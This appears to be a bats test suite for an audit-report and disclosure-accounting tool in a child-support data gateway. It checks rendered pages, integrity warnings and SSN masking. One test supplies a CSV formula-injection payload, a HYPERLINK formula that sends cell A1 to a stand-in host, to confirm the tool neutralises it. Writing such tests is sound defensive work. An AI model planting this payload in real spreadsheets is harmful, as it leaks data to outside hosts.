#!/usr/bin/env bats
# report.bats - what compliance staff read: csgw audit report (the
# disclosure review, one self-contained HTML page) and csgw audit
# accounting (the disclosures about one person), opened in a real
# browser: headless Chromium renders each page to its DOM and to PNG.
#
# The log is made by real commands over four days (faketime moves the
# clock): a protection added; a batch to TX (allowed, redacted,
# prohibited); the same batch refused to OCSE for a purpose it may not
# serve; the protection removed with a reason, and the batch to a custody
# authority (42 U.S.C. 663).

load helpers
load pki

# The four days' log, made once; each test works on its own copy.
setup_file() {
	make_pki "$BATS_FILE_TMPDIR"
	local d=$BATS_FILE_TMPDIR
	# faketime preloads its library; a build with AddressSanitizer must be
	# told that is fine.
	export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}verify_asan_link_order=0"
	printf '\n[partner COUNTY]\nclass = custody-authority\n' >>"$d/ca06.conf"
	cd "$d" || return 1
	"$CSGW" --environment test map locate-response "$DATA/locate-response.txt" -o lr.xml >/dev/null
	"$CSGW" -c ca06.conf --environment test protect add --ssn 906-54-3210 --flag family-violence >/dev/null
	faketime -f +1d "$CSGW" -c ca06.conf policy apply lr.xml --partner TX --purpose child-support -o tx.xml >/dev/null
	faketime -f +2d "$CSGW" -c ca06.conf policy apply lr.xml --partner OCSE --purpose program-eligibility -o ocse.xml >/dev/null || true
	faketime -f +3d "$CSGW" -c ca06.conf --environment test protect remove --ssn 906-54-3210 --flag family-violence --reason "protective order vacated" >/dev/null
	faketime -f +3d "$CSGW" -c ca06.conf policy apply lr.xml --partner COUNTY --purpose custody-visitation -o county.xml >/dev/null
	# Every SSN the batch holds, to look for in the pages.
	grep -o '<ssn>[0-9]*</ssn>' lr.xml | tr -dc '0-9\n' | sort -u >ssns
	[ -s ssns ]
}

setup() {
	use_pki
	cp -R "$PKI/ca06-audit" audit
	sed "s|= ca06-audit|= $BATS_TEST_TMPDIR/audit|; s|= pki/|= $PKI/pki/|; s|= ca06-spool|= $PKI/ca06-spool|" \
		"$CA" >gw.conf
	G=$BATS_TEST_TMPDIR/gw.conf
}

# browse PAGE: the DOM Chromium renders from PAGE, with no network at all
# (its own network namespace), into PAGE.dom; its complaints into PAGE.log.
browse() {
	unshare --net chromium --headless --no-sandbox --disable-gpu --enable-logging=stderr \
		--dump-dom "file://$BATS_TEST_TMPDIR/$1" >"$1.dom" 2>"$1.log"
	[ -s "$1.dom" ]
}

# shoot PAGE PNG [WIDTH,HEIGHT]: a screenshot of PAGE.
shoot() {
	unshare --net chromium --headless --no-sandbox --disable-gpu --hide-scrollbars \
		--window-size="${3:-1280,2000}" --screenshot="$BATS_TEST_TMPDIR/$2" \
		"file://$BATS_TEST_TMPDIR/$1" >/dev/null 2>&1
	[ -s "$2" ]
}

facts() {
	python3 "$CSGW_TOP/tests/cli/report_facts.py" "$1"
}

# How many entries audit search finds with these options.
search_count() {
	"$CSGW" -c "$G" audit search --format csv "$@" | tail -n +2 | wc -l
}

no_ssn_in() {
	local s
	while read -r s; do
		! grep -q -e "$s" -e "${s:0:3}-${s:3:2}-${s:5}" "$@" || return 1
	done <"$PKI/ssns"
}

@test "the review in a browser: integrity first, charts with the right bars, totals as audit search counts them, no SSN, nothing fetched" {
	run "$CSGW" -c "$G" audit report -o review.html
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == "csgw audit report: review.html: 14 entries in the period; the log verifies" ]]
	[ ! -e review.csv ] # no table too long for the page
	browse review.html
	facts review.html.dom >f
	cat f
	[ "$(grep '^section' f | head -1)" = "section integrity" ]
	grep -qx "verified yes" f
	# Three days of decisions; two partner/purpose pairs received records;
	# five rules refused or removed; no file came in.
	grep -qx "chart chart-days 3" f
	grep -qx "chart chart-partners 2" f
	grep -qx "chart chart-rules 5" f
	grep -qx "chart chart-inbound 0" f
	grep -qx "bar chart-partners TX_/_child-support 3" f
	grep -qx "bar chart-partners COUNTY_/_custody-visitation 4" f
	grep -qx "bar chart-rules PURPOSE-NOT-AUTHORIZED 4" f
	# The totals are audit search's counts.
	for d in allow redact deny prohibit; do
		want=$(search_count --decision "$d")
		grep -qx "total out $d $want" f
	done
	[ "$(search_count --decision deny)" -eq 4 ]
	# The tables: every denial and prohibition, both changes with the reason.
	grep -qx "table denials 5 5" f
	grep -qx "table changes 2 2" f
	grep -qx "table fti 0 0" f
	grep -q "protective order vacated" review.html.dom
	grep -q "L-FAMILY-VIOLENCE" review.html.dom
	# Self-contained: nothing to fetch, and Chromium, with no network, had
	# nothing to complain about.
	grep -qx "fetches 0" f
	! grep -Ei "net::ERR|Refused to|Failed to load" review.html.log || false
	grep -q "Content-Security-Policy" review.html
	no_ssn_in review.html review.html.dom
	shoot review.html review.png
	run python3 "$CSGW_TOP/tests/cli/png_colors.py" review.png 2e7d32 c62828
	echo "$output"
	[[ "${lines[0]}" == 1280x* ]]
	# The charts' green and red bars are drawn.
	[ "$(awk '$1 == "2e7d32" { print $2 }' <<<"$output")" -gt 500 ]
	[ "$(awk '$1 == "c62828" { print $2 }' <<<"$output")" -gt 500 ]
	# The report is an entry of the log, naming who made it.
	"$CSGW" -c "$G" audit search --decision reported --format csv >rows
	[ "$(wc -l <rows)" -eq 2 ]
	grep -q ",access,.*,reported,AUDIT-REPORT,.*,root,0,,review of the beginning to now: 14 entries" rows
	"$CSGW" -c "$G" audit verify >/dev/null
}

@test "a period and a partner narrow the review" {
	day2=$(date -u -d +2days +%F)
	run "$CSGW" -c "$G" audit report --since "$day2" --until "$day2" -o day2.html
	[ "$status" -eq 0 ]
	[[ "$output" == *"4 entries in the period"* ]]
	browse day2.html
	facts day2.html.dom >f
	grep -qx "chart chart-days 1" f
	grep -qx "total out deny 4" f
	[ "$(search_count --decision deny --since "$day2" --until "$day2")" -eq 4 ]
	grep -qx "total out allow 0" f
	grep -q "period $day2 to $day2" day2.html.dom
	run "$CSGW" -c "$G" audit report --partner TX -o tx.html
	[ "$status" -eq 0 ]
	[[ "$output" == *"4 entries in the period"* ]]
	browse tx.html
	facts tx.html.dom >f
	grep -qx "chart chart-partners 1" f
	grep -qx "table denials 1 1" f
	# Days with nothing are on the time axis too: a week from the first
	# day has seven bars, four of them empty.
	day0=$(date -u +%F) day6=$(date -u -d +6days +%F)
	run "$CSGW" -c "$G" audit report --since "$day0" --until "$day6" -o week.html
	[ "$status" -eq 0 ]
	browse week.html
	facts week.html.dom >f
	grep -qx "chart chart-days 7" f
	[ "$(grep -c '^bar chart-days .* 0$' f)" -eq 4 ]
	grep -qx "bar chart-days $day0 0" f
	grep -qx "bar chart-days $day2 4" f
}

@test "a table longer than --rows is counted on the page, every row in the CSV beside it" {
	run "$CSGW" -c "$G" audit report --rows 2 -o review.html
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"; 5 rows in review.csv" ]]
	browse review.html
	facts review.html.dom >f
	grep -qx "table denials 5 0" f # summarised
	grep -qx "table changes 2 2" f # short enough: on the page
	grep -q "every row is in <code>review.csv</code>" review.html.dom
	[ "$(head -1 review.csv | cut -d, -f1-4)" = "section,id,time,direction" ]
	[ "$(grep -c '^denials,' review.csv)" -eq 5 ]
	python3 -c 'import csv, sys; rows = list(csv.DictReader(open(sys.argv[1]))); assert len(rows) == 5, rows' review.csv
	no_ssn_in review.csv
	# The CSV holds the keyed hash's start only, as the page does.
	! grep -Eq '[0-9a-f]{13}' <(cut -d, -f12 review.csv) || false
	# --detail names another file.
	run "$CSGW" -c "$G" audit report --rows 2 -o other.html --detail rows/all.csv
	[ "$status" -eq 73 ] || [ "$status" -eq 74 ] # rows/ does not exist
	[ ! -e other.html ]
	mkdir rows
	run "$CSGW" -c "$G" audit report --rows 2 -o other.html --detail rows/all.csv
	[ "$status" -eq 0 ]
	[ -s rows/all.csv ]
	grep -q "every row is in <code>all.csv</code>" other.html
}

@test "a log with a tampered row: the review's first section says so in red, exit 65" {
	sqlite3 audit/audit.db "UPDATE entries SET decision = 'allow' WHERE id = 8"
	run "$CSGW" -c "$G" audit report -o review.html
	echo "$output"
	[ "$status" -eq 65 ]
	[[ "$output" == *"entry 8 was changed after it was written"* ]]
	[[ "$output" == *"the log DOES NOT VERIFY"* ]]
	browse review.html
	facts review.html.dom >f
	[ "$(grep '^section' f | head -1)" = "section integrity" ]
	grep -qx "verified no" f
	grep -q "The audit log does NOT verify: .*entry 8 was changed after it was written" review.html.dom
	# Red at the top of the page as it is shown.
	shoot review.html top.png 1000,500
	run python3 "$CSGW_TOP/tests/cli/png_colors.py" top.png fdecea b71c1c c62828
	echo "$output"
	[ "$(awk '$1 == "fdecea" { print $2 }' <<<"$output")" -gt 5000 ]
	[ "$(awk '$1 == "c62828" { print $2 }' <<<"$output")" -gt 1000 ]
}

@test "the accounting of disclosures about one person: by keyed hash, marked where it may be withheld" {
	run "$CSGW" -c "$G" --environment test audit accounting --ssn 906-54-3210 --format json
	echo "$output"
	[ "$status" -eq 0 ]
	# The batch to TX prohibited this person's record (family violence);
	# OCSE's were refused: neither is a disclosure.  The custody authority
	# got it, with fields removed, under 42 U.S.C. 663.
	python3 - "$output" <<-'EOF'
		import json, sys
		rows = json.loads(sys.argv[1])
		assert len(rows) == 1, rows
		r = rows[0]
		assert r["partner"] == "COUNTY" and r["purpose"] == "custody-visitation", r
		assert r["recipient"] == "COUNTY (custody-authority)", r
		assert r["decision"] == "redact" and "address" in r["categories"], r
		assert "663" in r["may_be_withheld"], r
		# policy apply decided it; no file holding it was seen leaving.
		assert r["sent"] is None, r
	EOF
	# The other subject of the batch, in the three batches that disclosed it.
	s=$(sed -n 1p "$PKI/ssns")
	run "$CSGW" -c "$G" --environment test audit accounting --ssn "$s" -o acc.html
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *"acc.html: "*" about ***-**-${s:5}"* ]]
	browse acc.html
	grep -q '<table id="accounting">' acc.html.dom
	no_ssn_in acc.html acc.html.dom
	grep -q "***-**-${s:5}" acc.html.dom
	# Text, and since a day: nothing before it.
	run "$CSGW" -c "$G" --environment test audit accounting --ssn 906-54-3210 --since "$(date -u -d +5days +%F)"
	[ "$status" -eq 0 ]
	[[ "$output" == *"# 0 disclosures"* ]]
	# Each accounting is an entry under the subject's keyed hash.
	[ "$("$CSGW" -c "$G" --environment test audit search --ssn 906-54-3210 --decision accounted --format csv | tail -n +2 | wc -l)" -eq 2 ]
}

@test "what a person typed cannot become a formula in the CSV a spreadsheet opens" {
	"$CSGW" -c "$G" --environment test protect add --ssn 906-54-3210 --flag nondisclosure >/dev/null
	"$CSGW" -c "$G" --environment test protect remove --ssn 906-54-3210 --flag nondisclosure \
		--reason '=HYPERLINK("http://example.invalid/?"&A1,"open")' >/dev/null
	run "$CSGW" -c "$G" audit report --rows 1 -o review.html
	[ "$status" -eq 0 ]
	grep '^changes,' review.csv | grep -q ",\"'=HYPERLINK(\"\"http"
	! grep -q ',=HYPERLINK' review.csv || false
	python3 - review.csv <<-'EOF'
		import csv, sys
		for row in csv.DictReader(open(sys.argv[1])):
		    assert not row["detail"].startswith(("=", "+", "-", "@")), row
	EOF
}

@test "an accounting from a log that does not verify says so first, exit 65" {
	sqlite3 audit/audit.db "UPDATE entries SET partner = 'NY' WHERE id = 12"
	run "$CSGW" -c "$G" --environment test audit accounting --ssn 906-54-3210
	echo "$output"
	[ "$status" -eq 65 ]
	"$CSGW" -c "$G" --environment test audit accounting --ssn 906-54-3210 2>/dev/null >acc.txt || true
	[ "$(head -1 acc.txt)" = "# WARNING: the audit log does not verify: $BATS_TEST_TMPDIR/audit/audit.db: entry 12 was changed after it was written" ]
	run "$CSGW" -c "$G" --environment test audit accounting --ssn 906-54-3210 -o acc.html
	[ "$status" -eq 65 ]
	grep -q 'class="alarm" data-verified="no"' acc.html
}

@test "report and accounting refuse what they cannot do, and leave no file" {
	run "$CSGW" -c "$G" audit report
	[ "$status" -eq 64 ]
	run "$CSGW" -c "$G" audit report --since yesterday -o r.html
	[ "$status" -eq 64 ]
	[[ "$output" == *"--since yesterday: expected a date YYYY-MM-DD"* ]]
	for rows in 0 -1 " 3" 99999999999999999999999 2x; do
		run "$CSGW" -c "$G" audit report --rows "$rows" -o r.html
		[ "$status" -eq 64 ]
		[[ "$output" == *"expected a number from 1 to 1000000"* ]]
	done
	run "$CSGW" -c "$G" audit report --since 2026-12-31 --until 2026-12-01 -o r.html
	[ "$status" -eq 64 ]
	[[ "$output" == *"an empty period"* ]]
	run "$CSGW" -c "$G" audit accounting -o a.html
	[ "$status" -eq 64 ]
	run "$CSGW" -c "$G" --environment test audit accounting --ssn 123-45-678
	[ "$status" -eq 64 ]
	[[ "$output" != *12345678* ]]
	rm audit/audit.db
	run "$CSGW" -c "$G" audit report -o r.html
	[ "$status" -ne 0 ]
	[ -z "$(ls -A . | grep -v -e '^audit$' -e '^gw.conf$')" ]
}
